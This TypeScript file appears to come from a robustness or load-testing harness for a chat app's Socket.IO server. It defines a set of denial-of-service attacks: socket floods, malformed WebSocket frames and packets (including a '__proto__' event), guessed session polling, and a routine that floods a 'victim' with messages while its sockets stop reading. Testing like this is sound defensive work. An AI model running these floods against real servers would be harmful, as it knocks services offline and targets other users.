import { randomBytes, randomUUID } from 'node:crypto';
import { setTimeout as pause } from 'node:timers/promises';
import { type Attack, repeat, type Target } from './attack.ts';
import { call } from './call.ts';
import { closed } from './connection.ts';
import { frame, kinds, openMemberSocket, openWebSocket, pour, text } from './web-socket.ts';

/** Opens a number of sockets and writes the same bytes to each until it is closed. */
function pourInto(name: string, sockets: number, by: Attack['by'], bytes: (target: Target) => Buffer): Attack {
  return {
    name,
    by,
    run: (target) => {
      const sent = bytes(target);
      return repeat(target, sockets, async () => {
        const socket = await (by === 'member' ? openMemberSocket(target) : openWebSocket(target));
        socket.resume();
        while (!target.signal.aborted) {
          await pour(socket, sent);
          await new Promise(setImmediate);
        }
      });
    },
  };
}

const times = (count: number, bytes: Buffer) => Buffer.concat(Array.from({ length: count }, () => bytes));

/** Invalid websocket frames. */
const badFrames = [
  Buffer.from([0xff, 0xff, 0xff, 0xff]),
  Buffer.from([0x81, 0xff, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0]),
  Buffer.from([0x81, 0x05, 1, 2, 3, 4, 5]),
  frame(0x01, 'half a message'),
  frame(kinds.continuation, 'no beginning'),
  frame(kinds.ping, 'x'.repeat(200)),
  frame(0xc1, 'compressed, says it'),
  frame(kinds.close, Buffer.from([0, 1])),
  text('9999'),
  text('40/nowhere,'),
  text(`4${'0'.repeat(60_000)}`),
  text('4512-["a",{"_placeholder":true,"num":0}]'),
  text('451-["join",{"_placeholder":true,"num":99999}]'),
  text('451-'.repeat(500)),
  text(`42${'['.repeat(60_000)}`),
  text('42["__proto__",{"__proto__":1}]'),
  text('420["disconnect"]'),
  text('42["connect_error"]'),
  text('43999999999999999999[]'),
  frame(kinds.text, Buffer.from([0xc0, 0xaf, 0xff])),
  frame(kinds.binary, randomBytes(60_000)),
  text('x'.repeat(70_000)),
];

export const socketFlood: Attack[] = [
  {
    name: 'websockets without a log-in',
    by: 'stranger',
    run: (target) =>
      repeat(target, 32, async () => {
        const socket = await openWebSocket(target);
        socket.write(text('40'));
        await closed(socket, 500);
        socket.destroy();
      }),
  },
  {
    name: 'websockets that never say who they are',
    by: 'stranger',
    run: async (target) => {
      await repeat(target, 50, async () => {
        const socket = await openWebSocket(target);
        socket.resume();
        await closed(socket, 30_000);
      });
    },
  },
  {
    name: 'websockets that are reset or broken within a frame',
    by: 'stranger',
    run: (target) =>
      repeat(target, 8, async (number) => {
        const socket = await openWebSocket(target);
        socket.write(badFrames[number % badFrames.length] ?? '');
        await pause(Math.random() * 50);
        if (number % 2 === 0) socket.resetAndDestroy();
        else socket.destroy();
      }),
  },
  pourInto('frames before the log-in is known', 4, 'stranger', () => times(200, text('42["join","x"]'))),
  pourInto('pings before the log-in is known', 4, 'stranger', () => times(500, frame(kinds.ping, 'x'.repeat(100)))),
  pourInto('CONNECT again and again', 4, 'stranger', () => times(200, text('40{}'))),
  {
    name: 'polling without a log-in',
    by: 'stranger',
    run: (target) =>
      repeat(target, 32, async () => {
        const path = '/socket.io/?EIO=4&transport=polling';
        const { status, text: opened } = await call(target, { path });
        const id = /"sid":"([^"]+)"/.exec(opened)?.[1];
        if (status !== 200 || id === undefined) return;
        const session = `${path}&sid=${id}`;
        await call(target, {
          method: 'POST',
          path: session,
          headers: { 'content-type': 'text/plain' },
          body: '40',
        });
        await call(target, { path: session });
      }),
  },
  {
    name: 'polling of sessions that are guessed, with bodies of every kind',
    by: 'stranger',
    run: (target) =>
      repeat(target, 16, async (number) => {
        await call(target, {
          method: number % 2 === 0 ? 'POST' : 'GET',
          path: `/socket.io/?EIO=${number % 5}&transport=${['polling', 'websocket', 'webtransport', 'x'][number % 4]}&sid=${randomUUID()}`,
          body: number % 2 === 0 ? '\x1e40'.repeat(20_000) : undefined,
        });
      }),
  },
  {
    name: 'thousand handshakes of one member',
    by: 'member',
    run: (target) =>
      repeat(target, 32, async () => {
        const socket = await openMemberSocket(target);
        socket.destroy();
      }),
  },
  pourInto("a member's socket that floods with joins", 1, 'member', () =>
    times(200, text(`42["join","${randomUUID()}"]`)),
  ),
  pourInto('twenty sockets that flood with joins, acknowledged', 20, 'member', () =>
    times(200, text(`421["join","${randomUUID()}"]`)),
  ),
  pourInto('twenty sockets that flood with messages', 20, 'member', ({ victim }) =>
    times(50, text(`42["sendMessage",${JSON.stringify({ receiverId: victim.id, text: 'x'.repeat(1000) })}]`)),
  ),
  pourInto('unknown events, as large as they may be', 5, 'member', () => text(`42["${'x'.repeat(60_000)}",{}]`)),
  pourInto('pings of a member', 5, 'member', () => times(500, frame(kinds.ping, 'x'.repeat(100)))),
  pourInto('pongs and noops of a member', 5, 'member', () =>
    Buffer.concat([times(200, text('3')), times(200, text('6'))]),
  ),
  pourInto('binary packets', 5, 'member', () =>
    Buffer.concat([text('451-["join",{"_placeholder":true,"num":0}]'), frame(kinds.binary, randomBytes(50_000))]),
  ),
  pourInto('empty messages in fragments', 5, 'member', () =>
    Buffer.concat([frame(0x01, '4'), times(500, frame(0x00, '')), frame(kinds.continuation, '2["x"]')]),
  ),
  pourInto('namespaces that are not there', 5, 'member', () => times(100, text(`40/${randomUUID()},`))),
  { name: 'sockets that never read', by: 'member', run: neverRead },
];

/** Joins a conversation, stops reading, and has it filled. */
async function neverRead(target: Target): Promise<void> {
  const { account, victim } = target;
  const opened = await call(target, {
    method: 'POST',
    path: '/api/chat/conversation',
    credentials: 'cookie',
    body: { userId: account.id, otherUserId: victim.id },
  });
  const { _id } = JSON.parse(opened.text) as { _id: string };
  for (let count = 0; count < 20; count += 1) {
    const socket = await openMemberSocket(target).catch(() => null);
    socket?.write(text(`42["join","${_id}"]`));
    await pause(20);
    socket?.pause();
  }
  await repeat(target, 8, async () => {
    const body = { senderId: account.id, receiverId: victim.id, text: 'x'.repeat(4000) };
    await call(target, { method: 'POST', path: '/api/chat/messages', credentials: 'cookie', body });
  });
}
